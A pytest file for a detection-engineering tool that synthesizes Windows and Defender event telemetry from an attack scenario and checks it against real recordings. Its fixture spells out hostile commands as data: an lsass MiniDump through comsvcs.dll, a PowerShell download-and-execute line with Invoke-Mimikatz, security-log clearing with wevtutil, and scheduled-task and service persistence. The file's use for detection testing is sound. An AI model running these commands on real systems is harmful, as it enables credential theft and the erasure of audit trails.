"""Synthesis of the identity and endpoint event kinds: each record has the shape ``evtx`` prints for a real
recording of the same event id, the facts agree across schemas, and every schema ingests into its tables."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from assay.catalog.models import Scenario
from assay.engine import DuckDBEngine
from assay.ingest import ingest_paths
from assay.verify.synth import Telemetry, synthesize, write_telemetry
from assay.verify.synth_base import event_id_of
from assay.verify.synth_endpoint import POWERSHELL_PART_CHARS, powershell_commands
from tests.verify.conftest import HOST, USER

ADMIN = {"domain": "CORP", "name": "adm.keller", "sid": "S-1-5-21-3623811015-3361044348-30300820-1104"}
SQL_SERVICE = {"domain": "CORP", "name": "svc_sql", "sid": "S-1-5-21-3623811015-3361044348-30300820-1170"}
LONG_SCRIPT = "$a = 'x'\n" + "Write-Output $a # padding\n" * 900

ACTIVITY: dict[str, Any] = {
    "host": HOST, "user": USER, "start": "2026-03-14T09:12:31.250Z",
    "processes": [
        {"id": "ps", "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "command_line": "powershell.exe -nop -ep bypass", "parent_image": "C:\\Windows\\explorer.exe",
         "parent_command_line": "C:\\Windows\\Explorer.EXE", "integrity": "High", "elevated": True},
        {"id": "rundll", "image": "C:\\Windows\\System32\\rundll32.exe",
         "command_line": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Temp\\l.dmp full",
         "parent": "ps", "integrity": "High", "elevated": True},
        {"id": "schtasks", "image": "C:\\Windows\\System32\\schtasks.exe",
         "command_line": 'schtasks /create /tn Updater /tr "C:\\Users\\Public\\u.exe" /sc onlogon', "parent": "ps"},
        {"id": "sc", "image": "C:\\Windows\\System32\\sc.exe",
         "command_line": 'sc.exe create updsvc binPath= "C:\\Users\\Public\\svc.exe"', "parent": "ps"},
        {"id": "wevtutil", "image": "C:\\Windows\\System32\\wevtutil.exe", "command_line": "wevtutil cl Security",
         "parent": "ps"},
    ],
    "logons": [
        {"user": ADMIN, "type": "network", "source_ip": "10.1.2.3", "source_workstation": "WS-0042",
         "admin": True, "logoff_after_seconds": 30},
        {"user": ADMIN, "type": "network", "outcome": "failure", "source_ip": "10.1.2.3", "count": 3,
         "every_seconds": 2, "after_seconds": 1},
        {"type": "new-credentials", "process": "ps", "outbound_user": "adm.keller", "outbound_domain": "CORP"},
    ],
    "explicit_credentials": [{"process": "ps", "target_user": ADMIN, "target_server": "dc01.corp.contoso.com"}],
    "kerberos": [
        {"kind": "tgt", "user": ADMIN, "pre_auth_type": 0, "encryption": "rc4", "client_ip": "10.1.2.3"},
        {"kind": "service-ticket", "service": "svc_sql", "encryption": "rc4", "count": 2},
        {"kind": "preauth-failed", "user": ADMIN, "status": "0x18"},
    ],
    "directory_access": [{"replication": True}],
    "accounts": [
        {"action": "created", "target": SQL_SERVICE},
        {"action": "added-to-group", "target": SQL_SERVICE, "group": "Administrators"},
        {"action": "added-to-group", "target": SQL_SERVICE, "group": "Domain Admins", "group_scope": "global"},
        {"action": "password-reset", "target": ADMIN},
    ],
    "shares": [{"share": "\\\\*\\ADMIN$", "relative_target": "PSEXESVC.exe", "source_ip": "10.1.2.3",
                "access_mask": "0x2"}],
    "log_clears": [{"channel": "Security", "process": "wevtutil"}, {"channel": "System", "process": "wevtutil"}],
    "services": [{"name": "updsvc", "image_path": "C:\\Users\\Public\\svc.exe", "start_type": "auto",
                  "process": "sc"}],
    "scheduled_tasks": [{"name": "Updater", "command": "C:\\Users\\Public\\u.exe", "trigger": "logon",
                         "process": "schtasks", "runs": True},
                        {"name": "Updater", "command": "C:\\Users\\Public\\u2.exe", "action": "updated",
                         "process": "schtasks", "after_seconds": 20}],
    "process_access": [{"process": "rundll", "granted_access": "0x1FFFFF",
                        "via": ["comsvcs.dll", "dbgcore.DLL"]}],
    "remote_threads": [{"process": "ps", "target_image": "C:\\Windows\\System32\\notepad.exe"}],
    "pipes": [{"process": "ps", "name": "\\PSEXESVC"}, {"process": "rundll", "name": "\\PSEXESVC",
                                                        "action": "connected"}],
    "wmi": [{"process": "ps", "name": "Updater", "destination": "C:\\Users\\Public\\u.exe"}],
    "dns": [{"process": "ps", "query": "evil.example.com", "results": ["203.0.113.7"]},
            {"process": "ps", "query": "wpad", "status": 9003}],
    "file_deletes": [{"process": "ps", "path": "C:\\Temp\\l.dmp", "archived": True},
                     {"process": "ps", "path": "C:\\Temp\\payload.exe"}],
    "powershell": [
        {"process": "ps", "script": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); "
                                    "Invoke-Mimikatz -DumpCreds", "module_logging": True, "suspicious": True},
        {"process": "ps", "script": LONG_SCRIPT, "path": "C:\\Users\\Public\\long.ps1"},
    ],
    "antivirus": [{"threat": "HackTool:Win32/Mimikatz", "path": "C:\\Users\\Public\\mimi.exe", "process": "ps"}],
    "device_events": [{"action_type": "AsrLsassCredentialTheftBlocked", "process": "rundll",
                       "file_name": "lsass.exe", "folder_path": "C:\\Windows\\System32\\lsass.exe"}],
}


def scenario(scenario_id: str = "own-every-event-kind", **changes: Any) -> Scenario:
    return Scenario.model_validate({
        "id": scenario_id, "title": "Every event kind", "kind": "attack", "provenance": {"own": "synth test"},
        "expected": {"sigma": "fires", "kql": "fires"}, "activity": {**ACTIVITY, **changes}})


@pytest.fixture(scope="module")
def telemetry() -> Telemetry:
    return synthesize(scenario())


def _records(telemetry: Telemetry, channel: str, event_id: int) -> list[dict[str, Any]]:
    return [r["Event"] for r in telemetry.sysmon + telemetry.security + telemetry.windows
            if r["Event"]["System"]["Channel"] == channel and event_id_of(r) == event_id]


# --------------------------------------------------------------------------------------------------------------
# The shape of each record against a real recording of the same event id
# --------------------------------------------------------------------------------------------------------------

SECURITY = "Security"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SAMPLES = "evtx-attack-samples"
#: (channel, event id, recording under evtx-attack-samples, fields newer Windows/Sysmon versions add at the end).
RECORDINGS: list[tuple[str, int, str, tuple[str, ...]]] = [
    (SECURITY, 4624, "Privilege Escalation/samaccount_spoofing_CVE-2021-42287_CVE-2021-42278_DC_securitylogs.evtx",
     ()),
    (SECURITY, 4625, "Credential Access/CA_4624_4625_LogonType2_LogonProc_chrome.evtx", ()),
    (SECURITY, 4634, "Privilege Escalation/4624 LT3 AnonymousLogon Localhost - JuicyPotato.evtx", ()),
    (SECURITY, 4648, "Lateral Movement/LM_WMIC_4648_rpcss.evtx", ()),
    (SECURITY, 4672, "Command and Control/DE_RDP_Tunnel_5156.evtx", ()),
    (SECURITY, 4768, "Credential Access/kerberos_pwd_spray_4771.evtx", ()),
    (SECURITY, 4769, "Privilege Escalation/samaccount_spoofing_CVE-2021-42287_CVE-2021-42278_DC_securitylogs.evtx",
     ()),
    (SECURITY, 4771, "Credential Access/kerberos_pwd_spray_4771.evtx", ()),
    (SECURITY, 4662, "Credential Access/CA_DCSync_4662.evtx", ()),
    (SECURITY, 4720, "Defense Evasion/DE_Fake_ComputerAccount_4720.evtx", ()),
    (SECURITY, 4724, "Credential Access/remote_pwd_reset_rpc_mimikatz_postzerologon_target_DC.evtx", ()),
    (SECURITY, 4732, "Persistence/Network_Service_Guest_added_to_admins_4732.evtx", ()),
    (SECURITY, 5140, "Discovery/dicovery_4661_net_group_domain_admins_target.evtx", ()),
    (SECURITY, 5145, "Credential Access/CA_protectedstorage_5145_rpc_masterkey.evtx", ()),
    (SECURITY, 1102, "Command and Control/DE_RDP_Tunnel_5156.evtx", ()),
    (SECURITY, 4698, "Execution/temp_scheduled_task_4698_4699.evtx", ()),
    (SECURITY, 4702, "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx", ()),
    ("System", 104, "Defense Evasion/DE_104_system_log_cleared.evtx", ()),
    ("System", 7045, "Lateral Movement/LM_Remote_Service02_7045.evtx", ()),
    (SYSMON, 10, "Credential Access/tutto_malseclogon.evtx", ()),
    (SYSMON, 8, "AutomatedTestingTools/Malware/sideloading_uacbypass_rundll32_injection_c2.evtx",
     ("SourceUser", "TargetUser")),
    (SYSMON, 17, "Defense Evasion/DE_remote_eventlog_svc_crash_byt3bl33d3r_sysmon_17_1_3.evtx", ("User",)),
    (SYSMON, 18, "Defense Evasion/DE_remote_eventlog_svc_crash_byt3bl33d3r_sysmon_17_1_3.evtx", ("User",)),
    (SYSMON, 19, "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx", ()),
    (SYSMON, 20, "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx", ()),
    (SYSMON, 21, "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx", ()),
    (SYSMON, 22, "Privilege Escalation/Sysmon_UACME_64.evtx", ("User",)),
    (SYSMON, 23, "Privilege Escalation/Sysmon_UACME_64.evtx", ()),
    ("Microsoft-Windows-PowerShell/Operational", 4104, "Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx",
     ()),
    ("Microsoft-Windows-Windows Defender/Operational", 1116,
     "AutomatedTestingTools/WinDefender_Events_1117_1116_AtomicRedTeam.evtx", ()),
    ("Microsoft-Windows-Windows Defender/Operational", 1117,
     "AutomatedTestingTools/WinDefender_Events_1117_1116_AtomicRedTeam.evtx", ()),
]


@cache
def _real_events(path: Path) -> tuple[dict[str, Any], ...]:
    import evtx

    return tuple(json.loads(r["data"])["Event"] for r in evtx.PyEvtxParser(str(path)).records_json())


def _real(path: Path, channel: str, event_id: int, keywords: str) -> dict[str, Any]:
    """The recording's first event of that id, preferring one with the same outcome (Keywords) as ours."""
    found = [event for event in _real_events(path) if event["System"]["Channel"] == channel
             and event_id_of({"Event": event}) == event_id]
    if not found:
        raise AssertionError(f"no {channel} {event_id} in {path}")
    return next((event for event in found if event["System"]["Keywords"] == keywords), found[0])


def _fields(event: dict[str, Any]) -> dict[str, Any]:
    if "EventData" in event:
        return dict(event["EventData"] or {})
    element = next(iter(event["UserData"].values()))
    return {k: v for k, v in element.items() if k != "#attributes"}


@pytest.mark.parametrize(("channel", "event_id", "recording", "newer"), RECORDINGS,
                         ids=[f"{c.split('/')[0].split('-')[-1]}-{e}" for c, e, _, _ in RECORDINGS])
def test_record_has_the_shape_evtx_prints_for_a_real_one(shared_data: Path, telemetry: Telemetry, channel: str,
                                                         event_id: int, recording: str, newer: tuple[str, ...]
                                                         ) -> None:
    path = shared_data / SAMPLES / recording
    if not path.is_file():
        pytest.skip(f"recording {recording} is not in this copy of the shared data")
    ours_all = _records(telemetry, channel, event_id)
    assert ours_all, f"the scenario renders no {channel} {event_id}"
    ours = ours_all[0]
    real = _real(path, channel, event_id, ours["System"]["Keywords"])
    # Same System block: keys in order, value types, provider, version, task, keywords, Security present or not.
    assert list(ours["System"]) == list(real["System"])
    for key in ("Version", "Task", "Opcode", "Keywords"):
        assert ours["System"][key] == real["System"][key], key
    assert ours["System"]["Provider"]["#attributes"]["Name"] == real["System"]["Provider"]["#attributes"]["Name"]
    assert ours["System"]["Provider"]["#attributes"]["Guid"] == real["System"]["Provider"]["#attributes"]["Guid"]
    assert (ours["System"]["Security"] is None) == (real["System"]["Security"] is None)
    assert type(ours["System"]["EventID"]) is type(real["System"]["EventID"])
    for key, value in real["System"].items():
        if key == "Correlation":
            # Windows writes an ActivityID for some occurrences of an id and not others (local vs network logons).
            assert ours["System"][key] is None or list(ours["System"][key]["#attributes"]) == ["ActivityID"]
            continue
        assert type(ours["System"][key]) is type(value), key
    # Same field object (EventData or UserData): names in order (newer versions append fields), value types.
    assert ("EventData" in ours) == ("EventData" in real)
    ours_fields, real_fields = _fields(ours), _fields(real)
    assert list(ours_fields) == [*real_fields, *newer]
    for key, value in real_fields.items():
        if value is None:
            assert ours_fields[key] is None, key
        elif key not in ("AccessList", "Properties", "PrivilegeList", "UserAccountControl"):
            assert type(ours_fields[key]) is type(value), key


def test_sysmon_4104_and_7045_values_look_like_windows(telemetry: Telemetry) -> None:
    lsass = _records(telemetry, SYSMON, 10)[0]["EventData"]
    assert lsass["TargetImage"] == "C:\\Windows\\System32\\lsass.exe" and lsass["GrantedAccess"] == "0x1FFFFF"
    assert lsass["TargetUser"] == "NT AUTHORITY\\SYSTEM"
    frames = lsass["CallTrace"].split("|")
    assert frames[0].startswith("C:\\Windows\\SYSTEM32\\ntdll.dll+")
    assert any("comsvcs.dll+" in f for f in frames) and any("dbgcore.DLL+" in f for f in frames)
    assert any(f.startswith("C:\\Windows\\System32\\rundll32.exe+") for f in frames)
    service = _records(telemetry, "System", 7045)[0]["EventData"]
    assert service == {"ServiceName": "updsvc", "ImagePath": "C:\\Users\\Public\\svc.exe",
                       "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"}
    wmi = _records(telemetry, SYSMON, 21)[0]["EventData"]
    assert wmi["Consumer"] == ' "\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\"Updater\\""'


def test_long_script_blocks_are_split_into_parts_with_one_id(telemetry: Telemetry) -> None:
    parts = [r["EventData"] for r in _records(telemetry, "Microsoft-Windows-PowerShell/Operational", 4104)
             if r["EventData"]["Path"] == "C:\\Users\\Public\\long.ps1"]
    assert len(parts) == -(-len(LONG_SCRIPT) // POWERSHELL_PART_CHARS) > 1
    assert [p["MessageNumber"] for p in parts] == list(range(1, len(parts) + 1))
    assert {p["MessageTotal"] for p in parts} == {len(parts)}
    assert len({p["ScriptBlockId"] for p in parts}) == 1
    assert "".join(p["ScriptBlockText"] for p in parts) == LONG_SCRIPT


def test_powershell_commands_resolve_aliases_in_order() -> None:
    assert powershell_commands("IEX (New-Object Net.WebClient).DownloadString('u'); Invoke-Mimikatz") == [
        "Invoke-Expression", "New-Object", "Invoke-Mimikatz"]
    assert powershell_commands("$x = 'a-b'; get-process lsass | iwr") == ["Get-Process", "Invoke-WebRequest"]


def test_repeated_events_are_spaced_as_asked(telemetry: Telemetry) -> None:
    failures = _records(telemetry, SECURITY, 4625)
    times = [r["System"]["TimeCreated"]["#attributes"]["SystemTime"] for r in failures]
    assert [t[11:19] for t in times] == ["09:12:32", "09:12:34", "09:12:36"]
    assert len(_records(telemetry, SECURITY, 4769)) == 2
    assert all(r["EventData"]["TicketEncryptionType"] == "0x17" for r in _records(telemetry, SECURITY, 4769))
    tgt = _records(telemetry, SECURITY, 4768)[0]["EventData"]
    assert tgt["PreAuthType"] == "0" and tgt["IpAddress"] == "::ffff:10.1.2.3"


def test_logon_facts_agree_between_security_and_defender(telemetry: Telemetry) -> None:
    success = _records(telemetry, SECURITY, 4624)[0]["EventData"]
    assert success["LogonType"] == 3 and success["AuthenticationPackageName"] == "NTLM"
    assert success["LogonProcessName"] == "NtLmSsp " and success["KeyLength"] == 128
    assert success["ElevatedToken"] == "%%1842"
    special = _records(telemetry, SECURITY, 4672)[0]["EventData"]
    assert special["SubjectLogonId"] == success["TargetLogonId"] and "SeDebugPrivilege" in special["PrivilegeList"]
    logoff = _records(telemetry, SECURITY, 4634)[0]["EventData"]
    assert logoff["TargetLogonId"] == success["TargetLogonId"]
    rows = telemetry.defender["DeviceLogonEvents"]
    ok = next(r for r in rows if r["ActionType"] == "LogonSuccess" and r["LogonType"] == "Network")
    assert ok["AccountName"] == "adm.keller" and ok["RemoteIP"] == "10.1.2.3" and ok["Protocol"] == "NTLM"
    assert ok["LogonId"] == int(success["TargetLogonId"], 16) and ok["IsLocalAdmin"] is True
    assert sum(r["ActionType"] == "LogonFailed" for r in rows) == 3
    seclogo = next(r["EventData"] for r in _records(telemetry, SECURITY, 4624) if r["EventData"]["LogonType"] == 9)
    assert seclogo["LogonProcessName"] == "seclogo" and seclogo["AuthenticationPackageName"] == "Negotiate"
    assert seclogo["TargetOutboundUserName"] == "adm.keller"


def test_dcsync_requests_both_replication_rights(telemetry: Telemetry) -> None:
    properties = [r["EventData"]["Properties"] for r in _records(telemetry, SECURITY, 4662)]
    assert any("{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}" in p for p in properties)
    assert any("{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}" in p for p in properties)
    assert all(r["EventData"]["AccessMask"] == "0x100" for r in _records(telemetry, SECURITY, 4662))


def test_group_changes_name_the_group_and_member(telemetry: Telemetry) -> None:
    local = _records(telemetry, SECURITY, 4732)[0]["EventData"]
    assert local["TargetUserName"] == "Administrators" and local["TargetSid"] == "S-1-5-32-544"
    assert local["MemberSid"] == SQL_SERVICE["sid"] and local["TargetDomainName"] == "Builtin"
    domain = _records(telemetry, SECURITY, 4728)[0]["EventData"]
    assert domain["TargetSid"].endswith("-512") and domain["MemberName"].startswith("CN=svc_sql,")


def test_device_events_carry_the_action_types(telemetry: Telemetry) -> None:
    actions = {r["ActionType"] for r in telemetry.defender["DeviceEvents"]}
    assert {"OpenProcessApiCall", "CreateRemoteThreadApiCall", "NamedPipeEvent", "WmiBindEventFilterToConsumer",
            "DnsQueryResponse", "PowerShellCommand", "ServiceInstalled", "ScheduledTaskCreated",
            "ScheduledTaskUpdated", "AntivirusDetection", "UserAccountCreated", "UserAccountAddedToLocalGroup",
            "SecurityLogCleared", "AsrLsassCredentialTheftBlocked"} <= actions
    commands = [r["AdditionalFields"]["Command"] for r in telemetry.defender["DeviceEvents"]
                if r["ActionType"] == "PowerShellCommand"]
    assert commands[:3] == ["Invoke-Expression", "New-Object", "Invoke-Mimikatz"]
    opened = next(r for r in telemetry.defender["DeviceEvents"] if r["ActionType"] == "OpenProcessApiCall")
    assert opened["FileName"] == "lsass.exe" and opened["InitiatingProcessFileName"] == "rundll32.exe"
    assert opened["AdditionalFields"] == {"DesiredAccess": 0x1FFFFF}
    task = next(r for r in telemetry.defender["DeviceEvents"] if r["ActionType"] == "ScheduledTaskCreated")
    assert task["AdditionalFields"]["TaskName"] == "\\Updater"
    assert "<Command>C:\\Users\\Public\\u.exe</Command>" in task["AdditionalFields"]["TaskContent"]


def test_synthesis_is_deterministic() -> None:
    assert synthesize(scenario()).security == synthesize(scenario()).security


@pytest.fixture(scope="module")
def databases(telemetry: Telemetry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, DuckDBEngine]]:
    folder = tmp_path_factory.mktemp("every-kind")
    engines: dict[str, DuckDBEngine] = {}
    for schema, paths in write_telemetry(telemetry, folder).items():
        engine = DuckDBEngine(None)
        summary = ingest_paths(paths, engine=engine)
        assert summary.bad_records == 0, (schema, summary.bad_record_list)
        engines[schema] = engine
    yield engines
    for engine in engines.values():
        engine.close()


def test_every_schema_ingests_and_keeps_each_event(databases: dict[str, DuckDBEngine], telemetry: Telemetry) -> None:
    for schema in ("sysmon", "security", "windows", "ecs"):
        count = databases[schema].run('SELECT count(*) FROM "RawEvents"').rows[0][0]
        assert count == len(telemetry.events(schema)), schema
    windows = dict(databases["windows"].run(
        'SELECT "Channel" || \':\' || CAST("EventID" AS VARCHAR), count(*) FROM "RawEvents" GROUP BY 1').rows)
    assert windows["System:7045"] == 1 and windows["System:104"] == 1
    assert windows["Microsoft-Windows-TaskScheduler/Operational:106"] == 1
    assert windows["Microsoft-Windows-PowerShell/Operational:4103"] == 3
    for table, rows in telemetry.defender.items():
        stored = databases["defender"].run(f'SELECT count(*) FROM "{table}"').rows[0][0]
        assert stored == len(rows), table


def test_security_events_fill_sentinel_columns(databases: dict[str, DuckDBEngine]) -> None:
    rows = databases["security"].run(
        'SELECT "EventID", "LogonType", "AuthenticationPackageName", "LogonTypeName", "IpAddress", "ServiceName", '
        '"ServiceFileName", "Activity" FROM "SecurityEvent" WHERE "EventID" IN (4624, 4697) ORDER BY 1, 2').rows
    network = next(r for r in rows if r[0] == 4624 and r[1] == 3)
    assert network[2] == "NTLM" and network[3] == "3 - Network" and network[4] == "10.1.2.3"
    service = next(r for r in rows if r[0] == 4697)
    assert service[5] == "updsvc" and service[6] == "C:\\Users\\Public\\svc.exe"
    assert service[7] == "4697 - A service was installed in the system."
    cleared = databases["security"].run(
        'SELECT "SubjectUserName" FROM "SecurityEvent" WHERE "EventID" = 1102').rows
    assert [tuple(row) for row in cleared] == [(USER["name"],)]  # read from UserData, not EventData


def test_ecs_documents_map_back_to_the_same_events(databases: dict[str, DuckDBEngine]) -> None:
    ids = dict(databases["ecs"].run(
        'SELECT "Channel" || \':\' || CAST("EventID" AS VARCHAR), count(*) FROM "RawEvents" GROUP BY 1').rows)
    assert ids["Security:4624"] == 2 and ids["Security:1102"] == 1 and ids["System:104"] == 1
    assert ids["Microsoft-Windows-Sysmon/Operational:10"] == 1
    fields = databases["ecs"].run(
        'SELECT "Fields" FROM "RawEvents" WHERE "EventID" = 1102').rows[0][0]
    assert dict(fields)["SubjectUserName"] == USER["name"]


def test_kql_reads_the_new_tables_and_event_data_the_documented_way(databases: dict[str, DuckDBEngine]) -> None:
    import datetime as dt

    from assay.kql import run

    now = dt.datetime(2026, 3, 14, 10, 12, tzinfo=dt.UTC)
    rc4 = run('SecurityEvent | where EventID == 4769 '
              '| extend Enc = extract(@"TicketEncryptionType\\W+(0x[0-9a-fA-F]+)", 1, EventData) '
              '| where Enc == "0x17" | summarize Tickets = count() by TargetUserName', db=databases["security"],
              now=now)
    assert [tuple(r) for r in rc4.rows] == [(f"{USER['name']}@CORP.CONTOSO.COM", 2)]
    commands = run('DeviceEvents | where ActionType == "PowerShellCommand" '
                   '| summarize make_set(tostring(AdditionalFields.Command))', db=databases["defender"], now=now)
    assert "Invoke-Mimikatz" in str(commands.rows[0][0])
    lsass = run('DeviceEvents | where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe" '
                '| where binary_and(toint(AdditionalFields.DesiredAccess), 0x10) == 0x10 '
                '| project InitiatingProcessFileName', db=databases["defender"], now=now)
    assert [tuple(r) for r in lsass.rows] == [("rundll32.exe",)]
    failures = run('DeviceLogonEvents | where ActionType == "LogonFailed" '
                   '| summarize Failures = count() by RemoteIP, bin(Timestamp, 5m)', db=databases["defender"], now=now)
    assert [(r[0], r[2]) for r in failures.rows] == [("10.1.2.3", 3)]


def test_expected_telemetry_claims_cover_the_other_channels(telemetry: Telemetry) -> None:
    from assay.verify.expectations import inventory_of_events, unbacked_claims

    inventory = inventory_of_events(telemetry.sysmon, telemetry.security, telemetry.windows)
    backed = ["System 7045 updsvc with ImagePath C:\\Users\\Public\\svc.exe", "Security 4697 for the same service",
              "PowerShell 4104 script block with IEX", "TaskScheduler 106 \\Updater registered",
              "Defender 1116 HackTool:Win32/Mimikatz", "Security 1102 the log was cleared",
              "Sysmon EID 10 rundll32.exe opens lsass.exe", "Security 4648 by powershell.exe"]
    assert unbacked_claims(backed, inventory) == []
    notes = unbacked_claims(["System 7036 the service started", "PowerShell 4105 command started",
                             "Task Scheduler 201 action completed", "Security 5145 for cmd.exe"], inventory)
    assert [n.split(": ", 1)[1] for n in notes] == [
        "the events hold no System 7036", "the events hold no PowerShell 4105",
        "the events hold no Task Scheduler 201", "no Security 5145 event for cmd.exe"]


def test_kerberos_events_also_render_as_identity_logon_events(telemetry: Telemetry) -> None:
    rows = telemetry.defender["IdentityLogonEvents"]
    assert len(rows) == len(_records(telemetry, SECURITY, 4768)) + len(_records(telemetry, SECURITY, 4769)) + len(
        _records(telemetry, SECURITY, 4771))
    tickets = [r for r in rows if r["LogonType"] == "Resource access"]
    assert len(tickets) == 2 and all(r["AdditionalFields"]["EncryptionType"] == "Rc4Hmac" for r in tickets)
    assert tickets[0]["AdditionalFields"]["Spns"] == "svc_sql" and tickets[0]["Protocol"] == "Kerberos"
    failed = next(r for r in rows if r["ActionType"] == "LogonFailed")
    assert failed["FailureReason"] == "WrongPassword" and failed["AccountName"] == "adm.keller"
